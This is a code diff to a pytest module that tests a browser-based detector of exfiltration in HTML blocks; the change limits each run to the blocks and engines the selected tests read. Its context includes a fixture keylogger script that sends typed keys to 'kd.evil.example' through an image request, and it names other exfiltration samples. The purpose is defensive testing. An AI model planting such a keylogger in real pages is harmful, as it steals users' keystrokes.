@@ -2,7 +2,8 @@
 
 One run of the layer for the whole module (every selected engine at once, pages in
 parallel, as `review` runs it): the corpus blocks that carry per-engine ``browser``
-expectations (fixtures/review/) followed by a few blocks of this file. The tests read that run:
+expectations (fixtures/review/) followed by a few blocks of this file; of those, the ones the
+selected cases read, in their engines (``-k``). The tests read that run:
 one case per (corpus block, engine), a benign block gives no high finding, an image and an
 on-click exfiltration are confirmed with path and host, a delayed one within the settle
 window too, a busy loop hits the time limit while the blocks after it still run,
@@ -49,11 +50,41 @@ EXTRA = {
                            "    else if (e.key === 'Enter') new Image().src = 'https://kd.evil.example/k?' + keys;\n  });\n</script>\n",
 }
 BUSY_THEN = ["busy_then.html", "after_busy.html"]  # a busy loop started by the page, then a plain block
+BENIGN = [c.name for c in CASES if c.name.startswith("benign") or c.name == "starter"]
+#: The blocks each test of this module reads (test_corpus_block: its case's block).
+READS = {
+    "test_benign_blocks_give_no_high_finding": BENIGN,
+    "test_image_exfiltration_is_confirmed_with_path_and_host": ["exfil_image"],
+    "test_on_click_exfiltration_is_found_by_clicking": ["exfil_on_click_handler"],
+    "test_delayed_exfiltration_within_the_settle_window": ["delayed_600ms.html"],
+    "test_typed_text_is_followed_through_base64": ["typed_keylogger.html"],
+    "test_typing_is_key_by_key": ["keydown_logger.html"],
+    "test_a_block_that_navigates_away_is_a_navigation_not_a_hang": ["navigates_away.html"],
+    "test_a_busy_loop_hits_the_time_limit_and_the_run_goes_on": BUSY_THEN,
+    "test_screenshots_in_light_and_dark": ["benign_theme"],
+    "test_bridge_traffic_is_recorded": ["benign_form"],
+}
+
+
+def _selected(session: pytest.Session, module: object) -> tuple[set[str], set[str]]:
+    """The blocks and engines this session's selected cases of this module read (after ``-k``):
+    `-k 'exfil_image and webkit'` reviews one block in one engine, not the corpus in three."""
+    files: set[str] = set()
+    engines: set[str] = set()
+    for item in session.items:
+        callspec = getattr(item, "callspec", None)
+        if getattr(item, "module", None) is not module or not callspec or "flowui_engine" not in callspec.params:
+            continue
+        engines.add(callspec.params["flowui_engine"])
+        name = getattr(item, "originalname", "")
+        files.update([callspec.params["case"].name] if name == "test_corpus_block" else READS[name])
+    return files, engines
 
 
 @pytest.fixture(scope="module")
 def run(request):
-    names = selected_engines(request.config)
+    files, engines = _selected(request.session, request.module)
+    names = [n for n in selected_engines(request.config) if n in engines]
     installed = [n for n in names if n in {e.name for e in find_engines()}]
     if not installed:
         (pytest.fail if in_ci() else pytest.skip)("no engine installed")  # with CI=true every engine is required
@@ -61,7 +92,7 @@ def run(request):
     blocks += [BlockInput(file=name, source=source, fields=["order.total"] if "total" in source else [],
                           state={"customer": {"name": "Ann"}, "order": {"total": "12.50"}}) for name, source in EXTRA.items()]
     blocks.insert(len(CASES), BlockInput(file="busy_then.html", source="<script>setTimeout(() => { for (;;) {} }, 50);</script>"))
-    results = run_browser_layer(blocks, installed, time_limit=15)
+    results = run_browser_layer([b for b in blocks if b.file in files], installed, time_limit=15)
     return {r.file: r for r in results}
 
 
@@ -101,9 +132,8 @@ def test_corpus_block(flowui_engine, run, case):
 
 
 def test_benign_blocks_give_no_high_finding(flowui_engine, run):
-    benign = [c.name for c in CASES if c.name.startswith("benign") or c.name == "starter"]
-    assert len(benign) >= 4
-    high = [(n, f.rule, f.message) for n in benign for f in by_engine(run[n], flowui_engine.name)
+    assert len(BENIGN) >= 4
+    high = [(n, f.rule, f.message) for n in BENIGN for f in by_engine(run[n], flowui_engine.name)
             if f.severity == "high" and f.rule not in LOAD_DEPENDENT]
     assert not high
 
